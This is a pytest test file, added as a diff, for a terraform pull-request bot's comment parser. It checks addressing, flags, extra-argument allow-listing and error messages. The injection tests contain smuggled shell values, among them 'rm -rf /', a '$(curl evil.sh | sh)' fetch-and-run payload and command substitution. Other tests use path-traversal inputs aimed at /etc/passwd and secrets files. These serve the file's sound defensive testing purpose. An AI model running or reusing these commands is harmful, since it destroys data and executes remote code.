@@ -1,0 +1,178 @@
+"""Comment parsing: who is addressed, which command, which flags, which terraform args."""
+
+from __future__ import annotations
+
+import pytest
+
+from atlantis_py.core.grammar import ALLOWED_EXTRA_ARGS, parse_comment
+from atlantis_py.domain.commands import Command, CommandName
+from atlantis_py.errors import CommandParseError
+from atlantis_py.report.render import Renderer
+
+PLAN, APPLY, UNLOCK, HELP = (CommandName.PLAN, CommandName.APPLY, CommandName.UNLOCK,
+                             CommandName.HELP)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "",
+        "   \n  ",
+        "looks good to me",
+        "please atlantis plan",
+        "> atlantis plan",
+        "`atlantis plan`",
+        "atlantisplan",
+        "@@atlantis plan",
+        "@someone-else plan",
+        "LGTM\natlantis plan",
+        "terraform plan -- '-var=x",  # unbalanced quote, but not for us: no error
+    ],
+)
+def test_comments_not_addressed_to_us(body: str) -> None:
+    assert parse_comment(body) is None
+
+
+VALID: list[tuple[str, Command]] = [
+    # help
+    ("atlantis", Command(HELP)),
+    ("atlantis help", Command(HELP)),
+    ("atlantis help plan", Command(HELP)),
+    ("atlantis --help", Command(HELP)),
+    ("atlantis -h", Command(HELP)),
+    ("atlantis plan --help", Command(HELP)),
+    ("atlantis apply -p x -h", Command(HELP)),
+    # addressing: whitespace, case, @mention, only the first line counts
+    ("  atlantis plan  \n", Command(PLAN)),
+    ("\tatlantis\tplan", Command(PLAN)),
+    ("Atlantis plan", Command(PLAN)),
+    ("@atlantis plan", Command(PLAN)),
+    ("atlantis plan\n\nbecause the module changed -- -destroy", Command(PLAN)),
+    ("atlantis plan\r\nmore", Command(PLAN)),
+    # plan
+    ("atlantis plan", Command(PLAN)),
+    ("atlantis plan -p network", Command(PLAN, project="network")),
+    ("atlantis plan --project network", Command(PLAN, project="network")),
+    ("atlantis plan --project=network", Command(PLAN, project="network")),
+    ("atlantis plan -d network", Command(PLAN, dir="network")),
+    ("atlantis plan --dir=./network/", Command(PLAN, dir="network")),
+    ("atlantis plan -d a//b/../c", Command(PLAN, dir="a/c")),
+    ("atlantis plan -d .", Command(PLAN, dir=".")),
+    ("atlantis plan -d 'my dir'", Command(PLAN, dir="my dir")),
+    ("atlantis plan -d net -w prod", Command(PLAN, dir="net", workspace="prod")),
+    ("atlantis plan -w prod -d net", Command(PLAN, dir="net", workspace="prod")),
+    ("atlantis plan --dir net --workspace=prod", Command(PLAN, dir="net", workspace="prod")),
+    ("atlantis plan --", Command(PLAN)),
+    ("atlantis plan -- -destroy", Command(PLAN, extra_args=("-destroy",))),
+    ("atlantis plan -p n -- -target=module.a -var=x=1 -lock=false",
+     Command(PLAN, project="n", extra_args=("-target=module.a", "-var=x=1", "-lock=false"))),
+    ('atlantis plan -- "-var=tags={a=\\"b c\\"}"',
+     Command(PLAN, extra_args=('-var=tags={a="b c"}',))),
+    (("atlantis plan -- -refresh=false -refresh-only -compact-warnings -parallelism=4 "
+      "-replace=aws_instance.a"),
+     Command(PLAN, extra_args=("-refresh=false", "-refresh-only", "-compact-warnings",
+                               "-parallelism=4", "-replace=aws_instance.a"))),
+    ("atlantis plan -- -var-file=prod.tfvars", Command(PLAN, extra_args=("-var-file=prod.tfvars",))),
+    ("atlantis plan -d envs/prod -- -var-file=../common.tfvars",
+     Command(PLAN, dir="envs/prod", extra_args=("-var-file=../common.tfvars",))),
+    # apply and unlock
+    ("atlantis apply", Command(APPLY)),
+    ("atlantis apply -p network", Command(APPLY, project="network")),
+    ("atlantis apply -d net -w prod", Command(APPLY, dir="net", workspace="prod")),
+    ("atlantis unlock", Command(UNLOCK)),
+]
+
+
+@pytest.mark.parametrize(("body", "expected"), VALID)
+def test_valid_commands(body: str, expected: Command) -> None:
+    assert parse_comment(body) == expected
+
+
+def test_other_bot_names() -> None:
+    names = ("atlantis", "acme-tf-bot")
+    assert parse_comment("@acme-tf-bot plan", names) == Command(PLAN)
+    assert parse_comment("@ACME-TF-BOT apply", names) == Command(APPLY)
+    assert parse_comment("atlantis unlock", names) == Command(UNLOCK)
+    assert parse_comment("atlantis plan", ("acme-tf-bot",)) is None
+
+
+# Looks like shell, but nothing reaches a shell: each token is one argv element
+# and must pass the allow-list as a whole.
+INJECTION_LOOKING: list[tuple[str, tuple[str, ...]]] = [
+    ("atlantis plan -- '-var=x;rm -rf /'", ("-var=x;rm -rf /",)),
+    ("atlantis plan -- -var=x;rm", ("-var=x;rm",)),
+    ("atlantis plan -- '-var=a=$(curl evil.sh | sh)'", ("-var=a=$(curl evil.sh | sh)",)),
+    ("atlantis plan -- -var=a=`id`", ("-var=a=`id`",)),
+    ("atlantis plan -- '-target=a && b'", ("-target=a && b",)),
+]
+
+
+@pytest.mark.parametrize(("body", "args"), INJECTION_LOOKING)
+def test_shell_looking_arguments_stay_single_argv_elements(
+        body: str, args: tuple[str, ...]) -> None:
+    command = parse_comment(body)
+
+    assert command is not None
+    assert command.extra_args == args
+
+
+# (comment, words the reason must contain)
+ERRORS: list[tuple[str, str]] = [
+    ("atlantis plna", "unknown command 'plna'; use one of: plan, apply, unlock, help"),
+    ("atlantis Plan", "unknown command 'Plan'"),
+    ("atlantis destroy", "unknown command 'destroy'"),
+    ("atlantis plan -- '-var=x", "cannot read the command: No closing quotation"),
+    ("atlantis plan -x", "unknown flag '-x'"),
+    ("atlantis plan -p=network", "unknown flag '-p=network'"),
+    ("atlantis plan --verbose", "unknown flag '--verbose'"),
+    ("atlantis plan network", "unexpected argument 'network'"),
+    ("atlantis plan -p", "flag -p needs a value"),
+    ("atlantis plan -p -d x", "flag -p needs a value"),
+    ("atlantis plan --project=", "flag --project needs a value"),
+    ("atlantis plan -p ''", "flag -p needs a value"),
+    ("atlantis plan -p a -p b", "flag -p is given twice"),
+    ("atlantis plan -p a --project b", "flag --project is given twice"),
+    ("atlantis plan -p 'a b'", "names cannot contain spaces"),
+    ("atlantis plan -d x -w a/b", "names cannot contain spaces or '/'"),
+    ("atlantis plan -p net -d net", "cannot be combined with -d or -w"),
+    ("atlantis plan -p net -w prod", "cannot be combined with -d or -w"),
+    ("atlantis plan -w prod", "-w needs -d"),
+    ("atlantis plan -d /etc", "-d '/etc' must be a relative path"),
+    ("atlantis plan -d ..", "-d '..' points outside the repository"),
+    ("atlantis plan -d a/../../b", "points outside the repository"),
+    ("atlantis plan -d 'a\\b'", "'/' separators"),
+    ("atlantis unlock -p x", "unlock takes no arguments"),
+    ("atlantis unlock -- -destroy", "unlock takes no arguments"),
+    ("atlantis apply -- -target=a", "apply takes no extra arguments"),
+    ("atlantis apply --", "apply takes no extra arguments"),
+    ("atlantis apply -p a -- -auto-approve", "apply takes no extra arguments"),
+    # allow-list
+    ("atlantis plan -- -var=x;rm -rf /", "terraform argument '-rf' is not allowed"),
+    ("atlantis plan -- -out=/tmp/p",
+     "terraform argument '-out=/tmp/p' is not allowed; allowed: -target=..., -var=..."),
+    ("atlantis plan -- -refresh=true", "'-refresh=true' is not allowed"),
+    ("atlantis plan -- -destroyer", "'-destroyer' is not allowed"),
+    ("atlantis plan -- -state=other", "'-state=other' is not allowed"),
+    ("atlantis plan -- -chdir=..", "'-chdir=..' is not allowed"),
+    ("atlantis plan -- -target", "'-target' is not allowed"),
+    ("atlantis plan -- -target=", "'-target=' needs a value"),
+    ("atlantis plan -- x", "'x' is not allowed"),
+    ("atlantis plan -- -var-file=/etc/passwd", "-var-file '/etc/passwd' must be a relative"),
+    ("atlantis plan -- -var-file=../secrets.tfvars", "points outside the repository"),
+    ("atlantis plan -p n -- -var-file=../x.tfvars", "points outside the repository"),
+    ("atlantis plan -d a -- -var-file=../../x.tfvars", "points outside the repository"),
+]
+
+
+@pytest.mark.parametrize(("body", "words"), ERRORS)
+def test_invalid_commands_raise_with_reason(body: str, words: str) -> None:
+    with pytest.raises(CommandParseError) as caught:
+        parse_comment(body)
+
+    assert words in str(caught.value)
+
+
+def test_help_lists_every_allowed_argument_and_flag() -> None:
+    text = Renderer().help(ALLOWED_EXTRA_ARGS)
+    for word in (*ALLOWED_EXTRA_ARGS, "--project", "--dir", "--workspace", "unlock"):
+        assert word in text
